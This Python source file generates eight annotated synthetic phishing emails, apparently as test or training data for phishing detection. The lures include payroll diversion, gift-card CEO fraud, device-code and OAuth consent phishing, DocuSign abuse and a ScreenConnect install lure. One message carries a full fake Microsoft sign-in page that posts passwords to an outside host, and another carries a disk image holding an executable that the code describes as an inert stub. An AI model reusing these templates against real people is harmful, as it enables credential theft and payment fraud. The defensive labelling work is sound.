"""Attack messages 09-16 (English)."""
import datetime as _dt

import archives
import docs
from company import HARWELL as HW, NORDWEST as NW, who
from idcheck import make_iban, group4
from mime import plain, html, alt, mixed, related, attachment, inline_image, Leaf, text_attachment
from mk import ol_html, ol_paras, ol_quote, ol_sent, esc, gm_html, para_html, flow
from spec import message
from systems import M365, Mimecast, Exim, SendGrid, Platform, Gmail, Brevo, Direct
from util import fmt_date, rhex, ralnum, rdigits, ruuid, epoch

OUTLOOK_CONSUMER_TENANT = '84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa'


# ------------------------------------------------------------------------------------------------ 09
@message('attack', 9, 'en', 'payroll-diversion-outlook-com')
def a09(s):
    s.sent('2026-11-16 08:03:37', 'UK')
    s.frm = ('Sarah Thompson', 'sarah.thompson.wrg@outlook.com')
    s.to = [who('katrin.weiss')]
    s.subject = 'Change of bank details for November salary'
    iban = make_iban('GB', 'MONZ' + '040004' + '58213746')
    s.accounts = [('UK sort code / account', '04-00-04 58213746')]
    text = ("Hi Katrin,\n\nHope you're well. I've recently moved banks and would like my salary from November "
            "onwards to be paid into my new account. Could you please update my details before this month's payroll "
            "run?\n\nAccount name: Sarah Thompson\nBank: Monzo Bank\nSort code: 04-00-04\nAccount number: 58213746\n"
            "IBAN (if you need it for the transfer from Germany): %s\n\n"
            "Sorry for writing from my personal email, my laptop is with IT for the Windows 11 rebuild until "
            "Thursday and I can't get into Outlook on my phone at the moment.\n\nPlease let me know once it's done.\n\n"
            "Many thanks,\nSarah\n\nSent from Outlook for iOS" % group4(iban))
    s.body = alt(plain(text, 'us-ascii', '7bit', label='us-ascii'),
                 html('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">\n</head>\n<body>\n'
                      + ''.join('<div dir="ltr">%s</div>\n' % (esc(l) if l else '<br>') for l in text.split('\n'))
                      + '</body>\n</html>\n', 'us-ascii', 'quoted-printable', label='us-ascii'))
    s.system = M365('outlook.com', OUTLOOK_CONSUMER_TENANT, lang='en-GB', consumer=True, dkim_domain='outlook.com')
    s.what = '"Sarah Thompson" (UK office manager) asks group HR to pay her November salary into a new Monzo account, writing from a private Outlook.com address.'
    s.why = 'Payroll diversion: free-mail look-alike of a colleague, bank change requested by e-mail only, excuse for not using the corporate mailbox, neobank account; genuine changes go through the HR self-service with call-back.'


# ------------------------------------------------------------------------------------------------ 10
@message('attack', 10, 'en', 'remittance-html-attachment-m365')
def a10(s):
    s.sent('2026-11-05 14:27:19', 'UK')
    s.frm = ('Accounts Department', 'accounts@brightline-electrical.co.uk')
    s.to = [who('james.whitfield')]
    s.subject = 'Remittance Advice - Payment Ref: RA-77104 - Example Cables UK Ltd'
    action = 'https://remit-docview-77104.azurewebsites.net/api/v1/session'
    lure = ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Remittance Advice RA-77104</title>\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
            '<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}'
            '.card{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
            'h2{font-weight:600;font-size:24px;color:#1b1b1b}input{width:100%;border:none;border-bottom:1px solid #666;'
            'padding:8px 0;margin:10px 0;font-size:15px}button{background:#0067b8;color:#fff;border:none;padding:8px 32px;'
            'float:right;font-size:15px}.small{font-size:13px;color:#0067b8}.doc{background:#f7f7f7;padding:10px;'
            'border-left:3px solid #0067b8;font-size:13px}</style></head>\n<body>\n<div class="card">\n'
            '<img alt="Microsoft" width="108" src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg">\n'
            '<h2>Verify your identity</h2>\n<div class="doc">Remittance_RA-77104.pdf (212 KB)<br>Shared via Microsoft 365 Message Encryption</div>\n'
            '<p>To view this remittance, sign in with the account that received it.</p>\n'
            '<form method="post" action="ACTION">\n<input type="email" name="loginfmt" value="james.whitfield@example.com" readonly>\n'
            '<input type="password" name="passwd" placeholder="Password" autocomplete="current-password">\n'
            '<input type="hidden" name="ref" value="RA-77104">\n<p class="small">Forgot my password</p>\n'
            '<button type="submit">Sign in</button>\n</form>\n</div>\n'
            '<div style="display:none;font-size:1px;color:#f2f2f2">remittance payment advice invoice 4471 4472 4490 '
            'BACS settlement statement account reconciliation thank you for your business</div>\n'
            '</body></html>\n').replace('ACTION', action)
    text = ("Good afternoon,\n\nPlease find attached remittance advice for the payment made to your account today "
            "(invoices 4471, 4472 and 4490).\n\nIf you have any queries please contact the accounts team.\n\n"
            "Kind regards\n\nAccounts Department\nBrightline Electrical Contractors Ltd\nUnit 12, Fernhill Business Park, Bury BL9 5BQ\n")
    s.body = mixed(alt(plain(text, 'us-ascii', '7bit', label='us-ascii'),
                       html(ol_html(ol_paras(text), 'us-ascii', 'EN-GB'), 'us-ascii', 'quoted-printable', label='us-ascii')),
                   Leaf('text/html', lure, charset='utf-8', cte='base64', name='Remittance_RA-77104_ExampleCablesUK.html',
                        disposition='attachment'))
    s.system = Exim('cp-uk14.webhostingbox.co.uk', '198.51.100.214', mode='auth', client='outlook', zone='UK',
                    desc='compromised SME mailbox on shared cPanel/Exim hosting cp-uk14.webhostingbox.co.uk [198.51.100.214]')
    s.what = 'Remittance advice from an electrical contractor with an HTML attachment that shows a Microsoft sign-in with the recipient\'s address pre-filled.'
    s.why = 'HTML-attachment credential phishing: local file escapes URL filters, form posts the password to an Azure App Service host; hidden filler text; sender is a real but compromised small business (SPF/DKIM pass) with no relationship to the UK office.'


# ------------------------------------------------------------------------------------------------ 11
@message('attack', 11, 'en', 'harwell-compromised-device-code')
def a11(s):
    s.sent('2026-11-18 10:52:04', 'UK')
    s.frm = HW['people']['hughes'][:2]
    s.to = [who('sarah.thompson')]
    s.cc = [who('daniel.fuchs')]
    s.subject = 'Q1 2027 price list - secure review link'
    code = 'BQ7XK4N2M'
    s.phones = ['+44 113 496 0752']
    text = ("Hi Sarah, Daniel,\n\nAhead of Thursday's call I've put our proposed Q1 2027 volumes and the SWA price "
            "comparison into our secure Microsoft 365 area, as it contains our net buying prices from other mills.\n\n"
            "To open it, please go to https://microsoft.com/devicelogin and enter the code below, then sign in with "
            "your normal work account:\n\n%s\n\n"
            "The code is only valid for 15 minutes, so do it when you're ready to look at it - if it expires just "
            "let me know and I'll send a new one.\n\nThanks\nGareth\n\nGareth Hughes\nPurchasing Manager\n"
            "Harwell Electrical Wholesale Ltd\nUnit 3, Ring Road, Seacroft Industrial Estate, Leeds LS14 1NH\n"
            "T: +44 113 496 0752\n" % code)
    hinner = ol_paras(text, links={'https://microsoft.com/devicelogin': 'https://microsoft.com/devicelogin'}, bold=(code,))
    s.body = alt(plain(text, 'us-ascii', 'quoted-printable', label='us-ascii'),
                 html(ol_html(hinner, 'us-ascii', 'EN-GB'), 'us-ascii', 'quoted-printable', label='us-ascii'))
    s.system = Mimecast(HW['domain'], HW['tenant'], lang='en-GB')
    s.what = 'Purchasing manager of UK customer Harwell asks to open a "secure" price comparison via microsoft.com/devicelogin with a one-time code.'
    s.why = 'Device-code phishing from a compromised genuine customer mailbox (M365 + Mimecast, all checks pass): the code was requested by the attacker, entering it grants the attacker OAuth tokens for the victim\'s account. Link is the real Microsoft domain.'


# ------------------------------------------------------------------------------------------------ 12
@message('attack', 12, 'en', 'ecovadis-invite-oauth-consent')
def a12(s):
    s.sent('2026-11-10 09:00:12', 'NL')
    s.frm = ('EcoVadis Supplier Engagement', 'engagement@ecovadis-supplier.com')
    s.to = [who('julia.lehmann')]
    s.subject = 'Invitation: CSR assessment kick-off - NordWest Verteilnetz supplier programme 2027'
    oauth = ('https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4f1d8c2a-93b7-4e5d-a6c1-0b2e7f9d3a58'
             '&response_type=code&redirect_uri=https%3A%2F%2Fecovadis-connect.azurewebsites.net%2Fauth%2Fcallback'
             '&response_mode=query&scope=offline_access%20openid%20profile%20User.Read%20Mail.ReadWrite%20Files.Read.All'
             '&state=NWV-2026-EQ-4471&prompt=consent&login_hint=julia.lehmann%40examplegroup.eu')
    desc = ("NordWest Verteilnetz GmbH has requested an EcoVadis sustainability rating from Example Kabelwerke GmbH as "
            "part of its 2027 supplier qualification.\n\nKick-off call (30 min, Microsoft Teams) and access to the "
            "questionnaire: sign in with your Microsoft 365 account via EcoVadis Connect:\n%s\n\n"
            "Deadline for the questionnaire: 15 December 2026.\nEcoVadis SAS, 43 avenue de la Grande Armee, 75116 Paris" % oauth)
    start = _dt.datetime(2026, 11, 17, 10, 0)
    cal = docs.ics(s, uid='040000008200E00074C5B7101A82E008000000007%s' % rhex(s.rng, 24).upper(),
                   organizer=('EcoVadis Supplier Engagement', 'engagement@ecovadis-supplier.com'),
                   attendees=[who('julia.lehmann')], start_local=start, minutes=30,
                   summary='CSR assessment kick-off - NordWest Verteilnetz supplier programme 2027', description=desc,
                   location='Microsoft Teams Meeting', zone_id='W. Europe Standard Time', zone='DE')
    text = desc + "\n\nYou received this invitation because your company was registered as a supplier by NordWest Verteilnetz GmbH."
    h = ('<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#1f2d3d">'
         '<table width="600" cellpadding="0" cellspacing="0"><tr><td style="background:#00a88f;padding:14px 20px;color:#fff;font-size:20px;font-weight:bold">ecovadis</td></tr>'
         '<tr><td style="padding:20px"><p><b>NordWest Verteilnetz GmbH</b> has requested an EcoVadis sustainability rating from '
         '<b>Example Kabelwerke GmbH</b> as part of its 2027 supplier qualification.</p>'
         '<p>Please join the 30-minute kick-off call on <b>Tuesday, 17 November 2026, 10:00 CET</b> and open the questionnaire.</p>'
         '<p><a href="%s" style="background:#2f2f2f;color:#fff;padding:10px 18px;text-decoration:none;display:inline-block">'
         '&#9632; Sign in with Microsoft</a></p><p style="font-size:12px;color:#6b7c93">Deadline for the questionnaire: 15 December 2026.<br>'
         'EcoVadis SAS, 43 avenue de la Grande Armée, 75116 Paris</p></td></tr></table></body></html>\n' % esc(oauth))
    s.body = mixed(alt(plain(text, 'utf-8', 'quoted-printable'), html(h, 'utf-8', 'quoted-printable'),
                       Leaf('text/calendar', cal, charset='utf-8', cte='base64', params=['method=REQUEST'])),
                   Leaf('application/ics', cal.encode('utf-8'), cte='base64', name='invite.ics', disposition='attachment'))
    s.system = SendGrid(dkim_domain='ecovadis-supplier.com')
    s.what = 'Calendar invitation "CSR assessment kick-off" in the name of EcoVadis for customer NordWest, with a "Sign in with Microsoft" button.'
    s.why = 'OAuth consent phishing: the link is a genuine login.microsoftonline.com authorize URL for a malicious multi-tenant app (client_id 4f1d8c2a-...) asking for offline_access, Mail.ReadWrite and Files.Read.All with prompt=consent; look-alike domain ecovadis-supplier.com via SendGrid; ICS invite puts it into the calendar.'


# ------------------------------------------------------------------------------------------------ 13
@message('attack', 13, 'en', 'rfq-substation-iso-img')
def a13(s):
    s.sent('2026-10-27 07:14:55', 'AE')
    s.frm = ('Procurement Dept. - Al Noor Power Projects', 'procurement@alnoor-powerprojects.com')
    s.to = [who('daniel.fuchs')]
    s.subject = 'RFQ-2026-1147 // Supply of 33kV XLPE cables - Mussafah substation project'
    inert = archives.inert_pe_stub()
    readme = ('RFQ-2026-1147\r\nBidders must submit technical and commercial offers separately.\r\n'
              'Validity of offer: 90 days. Incoterms: CFR Jebel Ali.\r\n').encode()
    img = archives.make_iso([('RFQ_2026.EXE', 'RFQ-2026-1147 Technical Specifications.exe', inert),
                             ('BIDDER.TXT', 'Bidder instructions.txt', readme)], 'RFQ_2026_1147', s.zip_time(60)[:6],
                            app_id='IMGBURN V2.5.8.0', preparer='')
    text = ("Dear Sir/Madam,\n\nGood day.\n\nWe are pleased to invite your esteemed company to submit your best "
            "offer for the supply of the following items for our 33/11 kV substation project in Mussafah, Abu Dhabi:\n\n"
            "1. 33kV 3C x 240 mm2 Cu/XLPE/SWA/PVC cable - 18,500 m\n"
            "2. 33kV 1C x 630 mm2 Cu/XLPE/AWA/PVC cable - 6,200 m\n"
            "3. 11kV 3C x 185 mm2 Cu/XLPE/SWA/PVC cable - 9,000 m\n\n"
            "Kindly find attached the RFQ package with technical specifications, drawings and bill of quantities. "
            "Please note the file is a disk image due to its size, open it on a Windows PC.\n\n"
            "Submission deadline: 30 November 2026. Please confirm your participation by return email.\n\n"
            "Best regards,\n\nMohammed Al Hashimi\nSenior Procurement Engineer\nAl Noor Power Projects LLC\n"
            "P.O. Box 48211, Mussafah Industrial Area, Abu Dhabi, UAE\nTel: +971 2 555 0147\n")
    s.phones = ['+971 2 555 0147']
    s.body = mixed(alt(plain(text, 'us-ascii', '7bit', label='us-ascii'),
                       html('<html><body><p style="font-family:Calibri,sans-serif;font-size:11pt">'
                            + esc(text).replace('\n', '<br>\n') + '</p></body></html>\n', 'us-ascii', 'quoted-printable', label='us-ascii')),
                   attachment('application/octet-stream', img, 'RFQ-2026-1147_Technical_Specifications.img'))
    s.system = Direct('mail.alnoor-powerprojects.com', 'vps-7f3a21.contaboserver.net', '192.0.2.141', style='dotnet',
                      spf='pass', zone='AE', desc='attacker-controlled VPS, direct to MX (SPF pass for its own domain)',
                      order=('MIME-Version', 'From', 'To', 'Date', 'Subject', 'Message-ID'))
    s.what = 'Request for quotation for 33 kV XLPE cables for an Abu Dhabi substation, with the "RFQ package" as a .img disk image.'
    s.why = 'Fake tender delivering malware: unknown sender on a freshly registered domain from a VPS, disk image (bypasses Mark-of-the-Web) containing "RFQ-2026-1147 Technical Specifications.exe"; generic wording.'


# ------------------------------------------------------------------------------------------------ 14
@message('attack', 14, 'en', 'docusign-real-envelope-abuse')
def a14(s):
    s.sent('2026-12-03 15:35:48', 'UK')
    s.frm = ('Priya Shah via Docusign', 'dse@eumail.docusign.net')
    s.reply_to = [('Priya Shah', 'priya.shah.harwell@gmail.com')]
    s.to = [who('james.whitfield')]
    s.subject = 'Complete with Docusign: Harwell_Statement_Q4-2026_Early_Settlement.pdf'
    env = ruuid(s.rng)
    acct = ruuid(s.rng)
    er = ruuid(s.rng)
    url = 'https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s' % (env, acct, er)
    sec = rhex(s.rng, 32).upper() + '1'
    msg = ("Dear James,\n\nPlease review and sign the attached Q4 statement. As discussed with Gareth, we can settle "
           "all open invoices before year end if you confirm the 2.5% early settlement discount and our updated "
           "remittance details in the form.\n\nKind regards\nPriya Shah\nAccounts Payable, Harwell Electrical Wholesale Ltd")
    text = ("Priya Shah sent you a document to review and sign.\n\nREVIEW DOCUMENT\n%s\n\nPriya Shah\n"
            "priya.shah.harwell@gmail.com\n\n%s\n\nPowered by Docusign\n\nDo Not Share This Email\n"
            "This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.\n\n"
            "Alternate Signing Method\nVisit Docusign.com, click 'Access Documents', and enter the security code:\n%s\n\n"
            "About Docusign\nSign documents electronically in just minutes. It's safe, secure, and legally binding.\n"
            % (url, msg, sec))
    h = ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
         '<body style="background-color:#eaeaea;padding:2%;font-family:Helvetica,Arial,Sans Serif;">'
         '<table role="presentation" border="0" cellspacing="0" cellpadding="0" width="100%" dir="" align="center"><tr><td></td>'
         '<td width="640"><table role="presentation" style="border-collapse:collapse;background-color:#ffffff;max-width:640px">'
         '<tr><td style="padding:10px 24px"><img style="border:none" width="116" src="https://eu.docusign.net/Signing/Images/email/Email_Logo.png" alt="Docusign"></td></tr>'
         '<tr><td style="padding:0px 24px 30px 24px"><table role="presentation" border="0" cellspacing="0" cellpadding="0" width="100%" align="center" style="background-color:#1e4ca1;color:#ffffff">'
         '<tr><td align="center" style="padding:28px 36px 36px 36px;border-radius:2px;background-color:#1e4ca1;color:#ffffff;font-size:16px;font-family:Helvetica,Arial,Sans Serif;width:100%;text-align:center;">'
         '<img width="75" height="75" src="https://eu.docusign.net/member/Images/email/docInvite-white.png" style="width:75px;height:75px" alt=""><br>'
         'Priya Shah sent you a document to review and sign.<br><br>'
         '<a href="' + esc(url) + '" style="background-color:#ffc423;color:#333333;padding:0px 24px;text-decoration:none;border-radius:2px;font-size:15px;font-weight:bold;line-height:44px;display:inline-block">REVIEW DOCUMENT</a>'
         '</td></tr></table></td></tr>'
         '<tr><td style="padding:0px 24px 24px 24px;color:#000000;font-size:16px;font-family:Helvetica,Arial,Sans Serif;background-color:white;">'
         '<table role="presentation"><tr><td style="padding-bottom:20px"><div style="font-weight:bold">Priya Shah</div>'
         '<div style="color:#666666">priya.shah.harwell@gmail.com</div></td></tr></table>'
         '<p style="font-size:15px;line-height:20px;color:#333333">' + esc(msg).replace('\n', '<br>') + '</p></td></tr>'
         '<tr><td style="padding:0px 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,Sans Serif;font-size:11px;color:#666666">Powered by <img width="60" src="https://eu.docusign.net/Signing/Images/email/Email_PowerLogo.png" alt="Docusign" style="vertical-align:middle"></td></tr>'
         '<tr><td style="padding:30px 24px 45px 24px;background-color:#eaeaea"><p style="margin-bottom:1em;font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px"><b>Do Not Share This Email</b><br>'
         'This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br></p>'
         '<p style="margin-bottom:1em;font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px"><b>Alternate Signing Method</b><br>'
         'Visit Docusign.com, click \'Access Documents\', and enter the security code:<br>' + sec + '</p>'
         '<p style="margin-bottom:1em;font-family:Helvetica,Arial,Sans Serif;font-size:13px;color:#666666;line-height:18px"><b>About Docusign</b><br>'
         'Sign documents electronically in just minutes. It\'s safe, secure, and legally binding.</p></td></tr>'
         '</table></td><td></td></tr></table></body></html>\n')
    s.body = alt(plain(text, 'utf-8', 'quoted-printable'), html(h, 'utf-8', 'quoted-printable'))

    def rec(r, sp, t):
        return ('from EU-D1-MTA-%02d (10.%d.%d.%d) by mailsender-eu%02d.docusign.net with ESMTPSA id %s;\n\t%s'
                % (r.randint(1, 20), r.randint(10, 99), r.randint(1, 250), r.randint(1, 250), r.randint(1, 9), rhex(r, 16),
                   fmt_date(t, 'UTC', 'std')))
    s.system = Platform('mailsender-eu05.docusign.net', '185.81.100.133',
                        [('docusign.net', 'mail-eu', 'From:To:Subject:Date:Message-ID:Content-Type:MIME-Version', 'relaxed/relaxed')],
                        env_from='bounces@eumail.docusign.net', style='hexb', mid_domain='eu.docusign.net',
                        desc='DocuSign EU sending infrastructure (mailsender-eu*.docusign.net), DKIM d=docusign.net',
                        received=[rec], headers_after=[('X-DocuSign-Envelope-Id', env.upper()), ('X-Api-Host', 'docusign.net')],
                        order=('From', 'Reply-To', 'To', 'Message-ID', 'Date', 'Subject', 'MIME-Version'), zone='UTC')
    s.what = 'Real DocuSign envelope "Harwell Q4 statement / early settlement" sent by an account calling itself Priya Shah (Harwell AP) from a Gmail address.'
    s.why = 'Abuse of a genuine e-signature platform: passes all checks (docusign.net), the only tells are the envelope sender\'s Gmail address/Reply-To and the request to confirm "updated remittance details"; the hosted document leads to payment-diversion / credential theft.'


# ------------------------------------------------------------------------------------------------ 15
@message('attack', 15, 'en', 'ceo-gift-cards-gmail')
def a15(s):
    s.sent('2026-12-10 16:41:22', 'DE')
    s.frm = ('Joachim Wetzel', 'joachim.wetzel.office@gmail.com')
    s.to = [who('sarah.thompson')]
    s.subject = 'Quick favour'
    text = ("Hi Sarah,\n\nAre you at your desk? I need you to take care of something for me discreetly this "
            "afternoon. I'm stuck in back-to-back meetings with the bank and can only text/email.\n\n"
            "I'd like to surprise a few of our key UK customers and the Warrington team with Christmas gifts before "
            "the holidays. Please purchase 8 Apple gift cards of GBP 200 each (Tesco or Boots should have them), "
            "scratch the back, take a clear photo of each card with the code and email them to me. Keep the "
            "receipt, Sabine's team will reimburse you tomorrow.\n\nPlease keep it between us for now, it's meant "
            "to be a surprise.\n\nThanks,\nJoachim\n\nSent from my iPhone")
    s.body = alt(plain(text, 'UTF-8', 'quoted-printable', label='UTF-8'),
                 html(gm_html(text), 'UTF-8', 'quoted-printable', label='UTF-8'))
    s.system = Gmail(zone='DE')
    s.what = '"CEO" asks the UK office manager to buy 8 Apple gift cards (GBP 1,600) for customers and send photos of the codes.'
    s.why = 'Gift-card scam: CEO display name on a Gmail address, urgency, secrecy, "can only e-mail", reimbursement promise, request for card codes.'


# ------------------------------------------------------------------------------------------------ 16
@message('attack', 16, 'en', 'it-agent-screenconnect-brevo')
def a16(s):
    s.sent('2026-11-23 08:15:03', 'UK')
    s.frm = ('Example Group IT Service Desk', 'servicedesk@examplegroup-it.com')
    s.to = [who('james.whitfield')]
    s.subject = '[Action required] Install the new remote support agent before 27 November'
    dl = 'https://examplegroup-support.screenconnect.com/Bin/ScreenConnect.ClientSetup.exe?e=Access&y=Guest&c=ExampleGroup&c=Warrington&c=&c=&c=&c=&c=&c='
    phone = '+44 113 496 0981'
    s.phones = [phone]
    text = ("Dear colleague,\n\nAs announced in the November IT newsletter, all Example Group Windows devices are being "
            "moved to the new remote support and patching agent. Devices without the agent will lose VPN and Outlook "
            "access after Friday 27 November 2026.\n\nInstallation takes about two minutes and does not require a "
            "restart:\n\n1. Download the agent: %s\n2. Run the file and confirm the Windows prompt\n"
            "3. Leave the window open - a technician will validate your device remotely\n\n"
            "If you are unable to install it, call the IT Service Desk on %s (Mon-Fri 07:30-18:00).\n\n"
            "Thank you for your cooperation.\n\nExample Group IT Service Desk\nIT Operations | Koeln - Warrington - Bydgoszcz\n" % (dl, phone))
    h = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#eef1f5">'
         '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">'
         '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">'
         '<tr><td style="background:#003c7e;color:#fff;padding:16px 24px;font-size:18px">Example Group &middot; IT Service Desk</td></tr>'
         '<tr><td style="padding:24px">' + para_html(text.split('\n\n1.')[0]) +
         '<ol><li>Download the agent: <a href="' + esc(dl) + '">Example Group Remote Support Agent (Windows)</a></li>'
         '<li>Run the file and confirm the Windows prompt</li><li>Leave the window open &ndash; a technician will validate your device remotely</li></ol>'
         '<p>If you are unable to install it, call the IT Service Desk on <b>' + phone + '</b> (Mon-Fri 07:30-18:00).</p>'
         '<p>Thank you for your cooperation.</p><p style="color:#666">Example Group IT Service Desk<br>IT Operations | Koeln - Warrington - Bydgoszcz</p>'
         '</td></tr></table></td></tr></table></body></html>\n')
    s.body = alt(plain(text, 'utf-8', 'quoted-printable'), html(h, 'utf-8', 'quoted-printable'))
    s.extra_headers = [('List-Unsubscribe', '<https://r.examplegroup-it.com/unsub/%s>' % rhex(s.rng, 24))]
    s.system = Brevo(dkim_domain='examplegroup-it.com')
    s.what = '"IT Service Desk" tells UK staff to install a new remote-support agent by Friday or lose VPN/Outlook access.'
    s.why = 'Remote-access tool lure: look-alike domain examplegroup-it.com via Brevo, download is a ScreenConnect client for an attacker-controlled cloud instance; deadline threat; real IT never distributes agents by e-mail link (see business/13).'
